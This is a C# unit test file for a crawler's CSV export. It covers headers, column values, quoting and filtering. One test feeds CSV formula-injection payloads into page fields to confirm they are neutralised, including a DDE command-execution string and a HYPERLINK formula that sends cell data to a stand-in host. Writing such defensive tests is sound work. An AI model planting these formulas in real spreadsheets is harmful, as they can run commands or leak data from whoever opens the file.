using Amble.App.Export;
using Amble.Host.Specs.Fakes;
using Amble.Messages;
using Xunit;

namespace Amble.Host.Specs.Export;

public sealed class CsvExportSpecs
{
    private readonly ScriptedSource _source = new();

    [Fact]
    public async Task The_header_has_stable_names()
    {
        var text = await Exported.TextAsync(ExportFormat.Csv, _source.Input());

        Assert.Equal(
            "job,url,class,status,error,depth,milliseconds,bytes,contentType,title,description,h1,h1Count,words,canonical,noindex,nofollow,redirectTo,inlinks,outlinks,"
            + "cache,warmCache,warmMilliseconds,notModified,savedBytes,tries,startedAt,page\r\n", text);
    }

    [Fact]
    public async Task Every_column_has_its_value()
    {
        _source.Page("https://example.org/a", StatusClass.Ok, 200, visit => visit with
        {
            Canonical = "https://example.org/b",
            NoIndex = true,
            Description = "All about us",
            Heading = "Us",
            Headings = 2,
            Words = 321,
            Outlinks = 12,
            Inlinks = 3,
            Cache = CacheStatus.Miss,
            Warm = new(CacheStatus.Hit, 200, 4),
            NotModified = true,
            SavedBytes = 900,
        });

        var row = Assert.Single(await Exported.CsvAsync(_source.Input()));

        Assert.Equal(
            ["1", "https://example.org/a", "ok", "200", "", "1", "120", "1000", "text/html", "Title", "All about us", "Us", "2", "321", "https://example.org/b", "true", "false", "", "3", "12",
                "miss", "hit", "4", "true", "900", "1", "2026-03-01T12:00:00.000Z", "1"], row.Values);
    }

    [Fact]
    public async Task A_page_that_was_not_answered_has_words_in_the_place_of_a_status()
    {
        _source.Page("https://example.org/slow", StatusClass.Unknown, -(int)FetchFailure.Timeout);

        var row = Assert.Single(await Exported.CsvAsync(_source.Input()));

        Assert.Equal(("", "no answer in time", "unknown"), (row["status"], row["error"], row["class"]));
    }

    [Fact]
    public async Task One_class_can_be_asked_for()
    {
        _source.Page("https://example.org/").Broken("https://example.org/gone").Redirect("https://example.org/old", "https://example.org/");

        Assert.Equal(["https://example.org/old"], (await Exported.CsvAsync(_source.Input(StatusClass.Redirected))).Select(row => row["url"]));
    }

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("\n=1+1")]
    [InlineData(" =1+1")]
    [InlineData("\u200B=1+1")]
    [InlineData("\u202E=1+1")]
    [InlineData("\0=1+1")]
    [InlineData("＝1+1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("=cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"https://evil.test?x=\"&A1,\"Click\")")]
    public async Task No_cell_is_a_formula(string title)
    {
        _source.Page("https://example.org/", like: visit => visit with { Title = title, Description = title, Heading = title, Error = title, ContentType = title, Canonical = title });

        var row = Assert.Single(await Exported.CsvAsync(_source.Input()));

        Assert.All((string[])["title", "description", "h1", "error", "contentType", "canonical"], name => Assert.StartsWith("'", row[name]));
        Assert.Equal("'" + ExportText.Clean(title), row["title"]);
    }

    [Fact]
    public async Task Quotes_commas_and_lines_stay_in_their_cell()
    {
        _source.Page("https://example.org/?a=1,2", like: visit => visit with { Title = "He said \"no\",\r\nand left;\n\"" }).Page("https://example.org/next");

        var rows = await Exported.CsvAsync(_source.Input());

        Assert.Equal(["https://example.org/?a=1,2", "https://example.org/next"], rows.Select(row => row["url"]));
        Assert.Equal("He said \"no\", and left; \"", rows[0]["title"]);
    }

    [Fact]
    public async Task All_jobs_of_a_crawl_are_one_table()
    {
        _source.Page("https://example.org/");

        var rows = await Exported.CsvAsync(new ExportInput(_source, [_source.Job(1), _source.Job(2)], null, null));

        Assert.Equal(2, rows.Count);
    }
}
